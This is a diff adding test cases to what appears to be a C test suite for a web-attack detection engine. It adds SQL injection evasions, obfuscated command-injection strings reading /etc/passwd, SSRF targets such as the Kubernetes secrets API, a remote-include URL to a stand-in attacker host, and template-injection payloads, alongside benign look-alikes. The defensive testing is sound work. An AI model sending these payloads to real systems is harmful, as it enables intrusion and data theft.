@@ -103,6 +103,30 @@ static void test_sqli(void **state)
         {"/p?q=x'%20AND%201=DBMS_XMLGEN.getxml('select%201')", NULL, NULL, 2100015},
         {"/dir?cn=*)(%7C(mail=*))", NULL, NULL, 2100024},                      /* LDAP filter */
         {"/dir?cn=x)(%26(objectClass=*))", NULL, NULL, 2100024},
+        /* ORDER BY column-count probes (number or string value, comment or end) */
+        {"/p?id=-42%20ORDER%20BY%207%23", NULL, NULL, 2100030},
+        {"/p?id=3%20order%20by%2012", NULL, NULL, 2100030},                      /* whole value */
+        {NULL, "user=guest+ORDER+BY+4--+xYz&pass=a", FORM, 2100031},
+        {"/p", "Cookie: s=guest%20ORDER%20BY%203%23\r\n", NULL, 2100032},      /* URL-decoded header */
+        {"/p", "User-Agent: -7 ORDER BY 9-- abc\r\n", NULL, 2100032},
+        /* whitespace evasions: comment + newline, MSSQL control blanks, overlong UTF-8, entities */
+        {"/p?id=1%27--qWe%0AORDER--rTy%0ABY--uIo%0A1--%20x", NULL, NULL, 2100030},
+        {"/p?id=1%23aBc%0AWAITFOR%23dEf%0ADELAY%23g%0A%270%3A0%3A1%27", NULL, NULL, 2100021},
+        {"/p?id=1%02AND%037299%3D7299", NULL, NULL, 2100003},
+        {"/p?id=1%C0%A0AND%C0%A01044%C0%BD1044", NULL, NULL, 2100003},
+        {"/p?id=1%26%2332%3BAND%26%2332%3B5342%26%2361%3B5342", NULL, NULL, 2100003},
+        {"/p?id=1%20HAVING%201234%3D1234", NULL, NULL, 2100003},
+        {"/p?id=%25S%25E%25L%25E%25C%25T%25201", NULL, NULL, 2100036},          /* IIS %-stripping */
+        {"/p?id=1%%27%20%A%N%D%20%S%L%E%E%P%%28%5%%29", NULL, NULL, 2100036},
+        {"/p?id=1%20WAITFOR%20DELAY%20%270%3A0%3A5%27", NULL, NULL, 2100021},    /* no ; needed */
+        {"/p?id=1%EF%BC%87%20WAITFOR%20DELAY%20%EF%BC%870%3A0%3A5%EF%BC%87", NULL, NULL, 2100021},
+        /* quote and bracket fuzzing (sqlmap heuristics) in a parameter, Referer, User-Agent */
+        {"/p?id=1%28%28%2C%2C.%29%29%22%27.", NULL, NULL, 2100033},
+        {"/p", "Referer: http://shop.example.com/p.php'abcDEF<'\">ghiJKL\r\n", NULL, 2100035},
+        {"/p", "User-Agent: Mozilla/5.0 Firefox/1.0.7.\"((.),)')\r\n", NULL, 2100035},
+        {"/p?id=1%26%2334%3B%26%2346%3B%26%2346%3B%26%2339%3B%26%2341%3B%26%2346%3B%26%2341%3B%26%2344%3B%26%2346%3B", NULL, NULL, 2100033},
+        {"/p?id=7877%00", NULL, NULL, 2100309},                                  /* NUL ends the value */
+        {NULL, "{\"id\": \"1' OR 'a' LIKE\\t'a\"}", JSON, 2100004},             /* JSON-escaped tab */
     };
     check_tp(state, c, HS_ARRAY_SIZE(c));
 }
@@ -149,6 +173,13 @@ static void test_cmdi(void **state)
         {NULL, "host=127.0.0.1%60cat+%2Fetc%2Fpasswd%60", FORM, 2100204},
         {NULL, "host=x+%60id%60", FORM, 2100204},                              /* ends the value */
         {NULL, "{\"host\": \"a`uname -a`\"}", JSON, 2100204},
+        /* quote splitting and globs */
+        {"/x?h=%3Bc%27a%27t%20%2Fe%27t%27c%2Fpasswd", NULL, NULL, 2100203},
+        {NULL, "to=%3B%24u%27n%27ame%20-a&lang=en", FORM, 2100204},
+        {"/x?h=1;w%22h%22oami", NULL, NULL, 2100203},
+        {"/x?h=%3B/%3F%3F%3F/%3F%3Ft%20/%3F%3F%3F/p%3F%3Fs%3F%3F", NULL, NULL, 2100203},  /* /???/??t */
+        {"/x?h=1|/bin/c?t%20/etc/passwd", NULL, NULL, 2100203},
+        {"/x?q=%7C%20dir%20C%3A%5C", NULL, NULL, 2100200},                       /* drive path */
     };
     check_tp(state, c, HS_ARRAY_SIZE(c));
 }
@@ -183,6 +214,12 @@ static void test_rfi_ssrf(void **state)
         {"/fetch?url=http://metadata.google.internal/computeMetadata/v1/", NULL, NULL, 2100506},
         {"/fetch?url=gopher://127.0.0.1:6379/_INFO", NULL, NULL, 2100503},
         {NULL, "{\"webhook\": \"http://[::1]:8080/admin\"}", JSON, 2100501},
+        {"/proxy?u=http%3A%2F%2F017700000001%2F", NULL, NULL, 2100500},          /* dotless octal */
+        {NULL, "{\"source_url\":\"http://017700000001/\"}", JSON, 2100501},
+        {"/hook?target=http://kubernetes.default.svc/api/v1/secrets", NULL, NULL, 2100500},
+        {"/hook?target=http://redis.cache.svc.cluster.local:6379/", NULL, NULL, 2100500},
+        {"/hook?target=http://admin.localtest.me/", NULL, NULL, 2100500},
+        {"/main.php?page=http://evil.example.net/inc.txt?cmd=id", NULL, NULL, 2100400},
     };
     check_tp(state, c, HS_ARRAY_SIZE(c));
 }
@@ -199,6 +236,9 @@ static void test_ssti_jndi(void **state)
         {NULL, "tpl=%3C%25%3D+7*7+%25%3E", FORM, 2100604},
         {"/x", "Cookie: n=%2A%7B7%2A7%7D\r\n", NULL, 2100605},                /* *{ } percent-encoded */
         {"/x", "Cookie: r=%25%7B%28%23_%3D%27multipart%2Fform-data%27%29%7D\r\n", NULL, 2100608}, /* OGNL */
+        {"/render?q=%3C%25=%20%60id%60%20%25%3E", NULL, NULL, 2100603},          /* ERB back-ticks */
+        {NULL, "email=%24%7BapplicationScope%7D&lang=en", FORM, 2100604},       /* EL implicit object */
+        {"/", "X-Api-Version: ${sessionScope}\r\n", NULL, 2100605},
     };
     check_tp(state, c, HS_ARRAY_SIZE(c));
 }
@@ -214,7 +254,8 @@ static void test_scanner(void **state)
                                 "Mozilla/5.0 (Windows NT 10.0) Acunetix-Product", "DirBuster-1.0-RC1 (http://www.owasp.org/)",
                                 "Mozilla/5.0 SF/2.10b", "WhatWeb/0.5.5", "Arachni/v1.6.1", "w3af.org", "masscan/1.3",
                                 "OpenVAS-VT", "Mozilla/5.0 (compatible; Netsparker)", "commix/v3.8", "feroxbuster/2.10.1",
-                                "dirsearch", "XSStrike", "Hydra", "CensysInspect/1.1", "Havij"};
+                                "dirsearch", "XSStrike", "Hydra", "CensysInspect/1.1", "Havij",
+                                "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"};   /* dirb's default */
     char msg[1024];
     for (size_t i = 0; i < HS_ARRAY_SIZE(uas); i++) {
         assert_true(hs_snprintf(msg, sizeof(msg), "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: %s\r\n\r\n", uas[i]));
@@ -229,8 +270,28 @@ static void test_scanner(void **state)
         {"/acunetix-wvs-test-for-some-inexistent-file", NULL, NULL, 2100702},
         {"/x?u=http://abc123.oastify.com/", NULL, NULL, 2100702},                  /* Burp Collaborator */
         {NULL, "{\"cb\": \"x.c59df3a.oast.fun\"}", JSON, 2100703},                /* interactsh */
+        {"/p?user=guest%27%20OR%20sqlspider", NULL, NULL, 2100702},              /* nmap NSE markers */
+        {NULL, "text=ghz%3Ehzx", FORM, 2100703},
+        {"/p?id=1ghz%3Ehzx%22zxc%27xcv", NULL, NULL, 2100702},
+        /* vulnerable-application paths */
+        {"/invoker/JMXInvokerServlet", NULL, NULL, 2100705},
+        {"/jmx-console/HtmlAdaptor", NULL, NULL, 2100705},
+        {"/_vti_bin/shtml.exe", NULL, NULL, 2100705},
+        {"/Micros~1/", NULL, NULL, 2100705},
+        {"/scripts/x.ida?NNNN", NULL, NULL, 2100705},
     };
     check_tp(state, fp, HS_ARRAY_SIZE(fp));
+    /* browsers, including a real Internet Explorer 6 (it adds tokens), and ordinary paths */
+    static const char *ok_uas[] = {"Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0) like Gecko",
+                                   "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)",
+                                   "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"};
+    for (size_t i = 0; i < HS_ARRAY_SIZE(ok_uas); i++) {
+        assert_true(hs_snprintf(msg, sizeof(msg), "GET /manager/ HTTP/1.1\r\nHost: a\r\nUser-Agent: %s\r\n\r\n", ok_uas[i]));
+        struct rdef_result r;
+        scan(f, msg, &r);
+        if (r.n != 0)
+            fail_msg("benign User-Agent raised sid %u: %s", r.sids[0], ok_uas[i]);
+    }
 }
 
 /* Benign look-alikes: none may alert. */
@@ -278,6 +339,26 @@ static void test_benign_lookalikes(void **state)
         {NULL, "--b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"up.sh\"\r\n"
                "Content-Type: text/plain\r\n\r\n#!/bin/sh\necho hello\n\r\n--b1--\r\n", "multipart/form-data; boundary=b1", 0},
         {NULL, "{\"title\": \"and select drop where root include\", \"query\": \"or not to be\"}", JSON, 0},
+        /* quoted words with and/or, prose dashes after a parenthesis, ORDER BY in prose */
+        {"/search?q=Type+%27cats%27+or+%27dogs%27+between+the+quotes", NULL, NULL, 0},
+        {NULL, "{\"note\": \"Say 'yes' or 'no' like you mean it.\"}", JSON, 0},
+        {"/search?q=Chapter+(part+2)+--+see+the+appendix+for+details", NULL, NULL, 0},
+        {NULL, "msg=The+box+(blue)+--+it+was+wet+when+it+came", FORM, 0},
+        {"/search?q=deliver+in+order+by+5+pm+please", NULL, NULL, 0},
+        /* multipart: a text field that starts with an SQL word, a boundary with dashes */
+        {NULL, "------XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nDelete old photos first.\r\n"
+               "------XyZ\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\nUpdate (v2)\r\n------XyZ--\r\n",
+               "multipart/form-data; boundary=----XyZ", 0},
+        /* random bytes of an upload after {{ */
+        {NULL, "--b2\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n"
+               "\xff\xd8\x8a{{\xe3\x07L:7p#\xacW\xca\xc6\xe0]\x02?!6\x94+R\r\n--b2--\r\n", "multipart/form-data; boundary=b2", 0},
+        {NULL, "{\"t\": \"Wait (...).\", \"u\": 1}", JSON, 0},                  /* short punctuation run */
+        {"/report?fmt=%25Y%25m%25d%25H%25M%25S", NULL, NULL, 0},               /* strftime, not IIS %-letters */
+        {"/search?q=books%3B+O%27Brien%27s+stories", NULL, NULL, 0},          /* quotes inside a name */
+        {"/search?q=what/why?/how?", NULL, NULL, 0},
+        {"/go?u=https%3A%2F%2Fwww.milan.example.com%2Fmenu", NULL, NULL, 0},
+        {NULL, "{\"text\": \"Use ${price} and #{name} in the template\"}", JSON, 0},
+        {"/static/report~final.pdf", NULL, NULL, 0},
     };
     char msg[4096];
     for (size_t i = 0; i < HS_ARRAY_SIZE(c); i++) {
